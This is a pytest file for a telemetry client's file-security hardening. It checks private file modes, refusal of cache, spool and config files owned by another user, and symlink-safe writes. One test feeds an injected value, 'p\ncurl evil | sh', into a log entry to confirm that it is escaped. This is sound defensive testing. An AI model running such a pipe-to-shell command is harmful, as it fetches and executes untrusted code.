"""Whose files the client uses: its directories 0700 and files 0600 whatever the umask, nobody else's used or followed.

The tests run as root in CI and chown to ``nobody`` to play the other user; as anyone else they
are skipped where that is needed.
"""

import json
import os
import stat

import pytest

from telly_autoinst import _statefile, cli, consent, identity, index, pipeline, purge, sender, spool
from telly_autoinst._contract import FILE_OPTIN, FILE_OPTOUT
from telly_autoinst.engines import rewrite
from telly_autoinst.errors import ConfigError
from telly_autoinst.settings import read_user_config
from tests.support.hook import HATCH_PROGRAM

NOBODY = 65534
as_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                             reason="playing another user needs chown, so root")


@pytest.fixture(autouse=True)
def home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    for var in ("TELLY_DISABLE", "DO_NOT_TRACK", "TELLY_OPTIN", "TELLY_DEBUG", "TELLY_SPOOL_DIR"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    _new_process()  # each test's directories are checked afresh
    identity.salt.cache_clear()
    old = os.umask(0o022)  # every install's default, under which the client used to make 0755/0644
    yield home
    os.umask(old)
    identity.salt.cache_clear()
    _new_process()


def _new_process():
    """Forget which directories were checked, as a new process would."""
    getattr(_statefile, "_dirs", {}).clear()


def _mode(path):
    return stat.S_IMODE(os.lstat(path).st_mode)


def _code_entry(tmp_path):
    """A source file with a code-cache entry stored for it: (source path, stamp, entry path)."""
    source = tmp_path / "mod.py"
    source.write_text("def f():\n    return 1\n")
    current = rewrite.code_stamp(str(source))
    rewrite.store_code(str(source), current, ((), None), compile(source.read_text(), str(source), "exec"))
    return str(source), current, rewrite._file(str(source))


def test_everything_the_client_creates_is_private_whatever_the_umask(home, tmp_path):
    index.write(index.base_stamps(), ["pkg"], "payload")
    _, _, entry = _code_entry(tmp_path)
    directory = pipeline.default_dir()
    pipeline.enqueue_counts(directory, "http://c", "p", {"report_id": "r"})
    spool.record_loss("x", "p", directory)
    consent.optout("p")
    consent.disable()
    identity.salt()
    cache = home / ".cache"
    for path in [cache, cache / "telly_autoinst", os.path.dirname(entry), os.path.dirname(os.path.dirname(entry)),
                 directory]:
        assert _mode(path) == 0o700, path
    for path in [index.index_path(), entry, os.path.join(directory, "losses.log"), home / ".telly_optout",
                 home / ".telly_disable", home / ".telly_salt", *(os.path.join(directory, n)
                                                                 for n in spool.entries(directory))]:
        assert _mode(path) == 0o600, path


def test_the_clients_own_too_open_directories_and_files_are_tightened(home, tmp_path):
    index.write(index.base_stamps(), ["pkg"], "payload")
    cache = home / ".cache" / "telly_autoinst"
    os.chmod(cache, 0o755)  # what every older install has
    os.chmod(index.index_path(), 0o644)
    (home / ".telly_optout").write_text("p\n")
    os.chmod(home / ".telly_optout", 0o644)
    _new_process()
    assert index.read() is not None  # still used, not abandoned
    assert consent._listed(FILE_OPTOUT, "p")
    assert (_mode(cache), _mode(index.index_path()), _mode(home / ".telly_optout")) == (0o700, 0o600, 0o600)


@as_root
def test_a_cache_directory_of_another_user_is_not_used(home, tmp_path):
    source, current, entry = _code_entry(tmp_path)
    index.write(index.base_stamps(), ["pkg"], "payload")
    assert rewrite.load_code(source, current) is not None and index.read() is not None
    cache = home / ".cache" / "telly_autoinst"
    for path in (cache, os.path.dirname(entry)):
        os.chown(path, NOBODY, NOBODY)  # an XDG_CACHE_HOME (or HOME, under sudo -E) someone else controls
    _new_process()
    # Their entries would run as this user: neither the planted code nor the index is read.
    assert rewrite.load_code(source, current) is None
    assert index.read() is None and not index.writable()
    # `status` says which directory and why; `purge` leaves another user's directory alone.
    text, _ = cli._status(type("Args", (), {"json": False})())
    assert f"refused:      {cache}: belongs to uid {NOBODY}, not to this user (uid 0)" in text
    assert str(cache) not in purge.leftovers()


@as_root
def test_counting_goes_on_in_memory_when_the_cache_directory_is_refused(home, tmp_path, hatch_venv):
    """Another user's cache directory is not used, but a watched program is still counted."""
    cache = home / ".cache" / "telly_autoinst"
    cache.mkdir(parents=True)
    os.chown(cache, NOBODY, NOBODY)
    out = tmp_path / "out"
    env = {"TELLY_STORAGE_TYPE": "file", "TELLY_LOCAL_STORAGE_PATH": str(out), "TELLY_DEBUG": "1"}
    proc = hatch_venv.run(HATCH_PROGRAM, home, env=env, check=True)
    assert f"not using {cache}: belongs to uid {NOBODY}" in proc.stderr
    assert [json.loads(p.read_text())["stats"] for p in out.glob("*.json")] == [{"sample_hatch.add": 1}]
    assert os.listdir(cache) == []  # nothing was written into it


@as_root
def test_a_cache_root_of_another_user_is_refused_by_status_debug_and_the_gate(home, tmp_path, monkeypatch, capsys):
    """XDG_CACHE_HOME itself is another user's and our directory in it does not exist yet: nothing is
    created in it, and the refusal is said (status, TELLY_DEBUG) and lets counting go on in memory."""
    root = tmp_path / "their-cache"
    root.mkdir()
    os.chown(root, NOBODY, NOBODY)
    os.chmod(root, 0o777)
    monkeypatch.setenv("XDG_CACHE_HOME", str(root))
    monkeypatch.setenv("TELLY_DEBUG", "1")
    assert index.refused() is not None and not index.writable()
    assert f"belongs to uid {NOBODY}, not to this user" in capsys.readouterr().err
    text, _ = cli._status(type("Args", (), {"json": False})())
    assert f"refused:      {root}: belongs to uid {NOBODY}" in text
    # Once: the code cache and the spool under it are refused for the same reason, not said again.
    assert text.count("refused:") == 1, text
    assert os.listdir(root) == []


@as_root
def test_a_file_of_another_user_in_the_cache_is_not_used(tmp_path):
    source, current, entry = _code_entry(tmp_path)
    os.chown(entry, NOBODY, NOBODY)
    assert rewrite.load_code(source, current) is None


@as_root
def test_a_spool_of_another_user_is_neither_filled_nor_drained(tmp_path):
    directory = tmp_path / "spool"
    pipeline.enqueue_counts(str(directory), "http://127.0.0.1:9", "p", {"report_id": "r"})
    os.chown(directory, NOBODY, NOBODY)
    _new_process()
    with pytest.raises(_statefile.Refused):
        pipeline.enqueue_counts(str(directory), "http://127.0.0.1:9", "p", {"report_id": "s"})
    assert sender.drain(str(directory)) == (0, 0)
    assert len(os.listdir(directory)) == 1  # untouched: not built, not dropped, no lock, no log


def test_a_spool_others_can_write_is_tightened_when_it_is_ours(tmp_path):
    directory = tmp_path / "spool"
    directory.mkdir()
    os.chmod(directory, 0o777)
    pipeline.enqueue_counts(str(directory), "http://c", "p", {"report_id": "r"})
    assert _mode(directory) == 0o700


def test_losses_log_follows_no_symlink_and_escapes_what_an_entry_says(tmp_path):
    directory = tmp_path / "spool"
    victim = tmp_path / "bashrc"
    victim.write_text("# mine\n")
    directory.mkdir(mode=0o700)
    os.symlink(victim, directory / "losses.log")
    spool.record_loss("spool-corrupt", "p\ncurl evil | sh", str(directory))
    assert victim.read_text() == "# mine\n"
    os.unlink(directory / "losses.log")
    spool.record_loss("opted-out", "p\ncurl evil | sh #", str(directory))
    (line,) = (directory / "losses.log").read_text().splitlines()
    assert line.split()[1:] == ["opted-out", "p\\ncurl\\x20evil\\x20|\\x20sh\\x20#"]


def test_temporary_files_have_names_nobody_can_prepare(home, tmp_path):
    """A symlink at the temporary name the client used to use (path.PID.tmp) is never written through."""
    victim = tmp_path / "victim"
    victim.write_text("mine\n")
    path = index.index_path()
    os.makedirs(os.path.dirname(path), mode=0o700)
    os.symlink(victim, f"{path}.{os.getpid()}.tmp")
    index.write(index.base_stamps(), ["pkg"], "payload")
    directory = tmp_path / "spool"
    directory.mkdir(mode=0o700)
    os.symlink(victim, directory / f"{0:020d}-r.counts.{os.getpid()}.tmp")
    assert victim.read_text() == "mine\n" and index.read() is not None


def test_consent_lists_may_be_symlinks_to_the_users_own_files(home, tmp_path):
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "optout").write_text("a\n")
    os.symlink(dotfiles / "optout", home / ".telly_optout")
    consent.optout("b")
    assert os.path.islink(home / ".telly_optout")  # written through, the link kept
    assert (dotfiles / "optout").read_text() == "a\nb\n"
    assert consent._listed(FILE_OPTOUT, "a")


@as_root
def test_consent_lists_config_and_salt_of_another_user_are_not_used(home, tmp_path):
    other = tmp_path / "other"
    other.mkdir()
    for name, text in (("optin", "p\n"), ("salt", "their-salt\n"), ("config.toml", "optin_only = true\n")):
        (other / name).write_text(text)
        os.chown(other / name, NOBODY, NOBODY)
    os.symlink(other / "optin", home / ".telly_optin")
    os.symlink(other / "salt", home / ".telly_salt")
    (home / ".config" / "telly_autoinst").mkdir(parents=True)
    os.symlink(other / "config.toml", home / ".config" / "telly_autoinst" / "config.toml")
    assert not consent._listed(FILE_OPTIN, "p")
    with pytest.raises(OSError):
        consent.optin("q")  # never writes into another user's file
    assert (other / "optin").read_text() == "p\n"
    assert identity.salt()[1] == "machine_id"  # their salt would let them test guesses of the hashes
    with pytest.raises(ConfigError, match="belongs to uid"):
        read_user_config()


def test_root_may_own_the_users_config(home):
    config = home / ".config" / "telly_autoinst" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text("optin_only = true\n")
    if os.geteuid() == 0:
        assert read_user_config() == {"optin_only": True}


def test_purge_removes_temporary_files_a_crash_left_in_home(home):
    (home / ".telly_optout.0123456789abcdef.tmp").write_text("x")
    (home / ".telly_salt.9.tmp").write_text("x")
    found = purge.leftovers()
    assert str(home / ".telly_optout.0123456789abcdef.tmp") in found and str(home / ".telly_salt.9.tmp") in found


def test_purge_removes_both_clients_files_from_a_shared_spool(home, tmp_path, monkeypatch):
    directory = tmp_path / "shared-spool"
    directory.mkdir(mode=0o700)
    # The Node sender's lock, and a lock it set aside as stale, beside the Python sender's files.
    names = ["1-a.report", "2-b.counts", "3.tmp", "losses.log", ".sender.lock", ".sender.started",
             ".sender-node.lock", ".sender-node.lock.0123456789abcdef.stale"]
    for name in names + ["mine.txt"]:
        (directory / name).write_text("x")
    monkeypatch.setenv("TELLY_SPOOL_DIR", str(directory))
    found = purge.leftovers()
    assert sorted(os.path.basename(p) for p in found if p.startswith(str(directory))) == sorted(names)
    assert purge.remove(found) == []
    assert os.listdir(directory) == ["mine.txt"]


@as_root
def test_status_json_names_the_refused_spool(home, tmp_path, monkeypatch, capsys):
    directory = tmp_path / "spool"
    directory.mkdir()
    os.chown(directory, NOBODY, NOBODY)
    monkeypatch.setenv("TELLY_SPOOL_DIR", str(directory))
    text, _ = cli._status(type("Args", (), {"json": True})())
    (refused,) = json.loads(text)["refused"]
    assert refused["directory"] == str(directory) and f"belongs to uid {NOBODY}" in refused["reason"]


@as_root
def test_telly_debug_says_which_directory_is_refused_and_why(tmp_path, monkeypatch, capsys):
    directory = tmp_path / "spool"
    directory.mkdir()
    os.chown(directory, NOBODY, NOBODY)
    monkeypatch.setenv("TELLY_DEBUG", "1")
    assert sender.drain(str(directory)) == (0, 0)
    assert f"telly_autoinst: not using {directory}: belongs to uid {NOBODY}" in capsys.readouterr().err
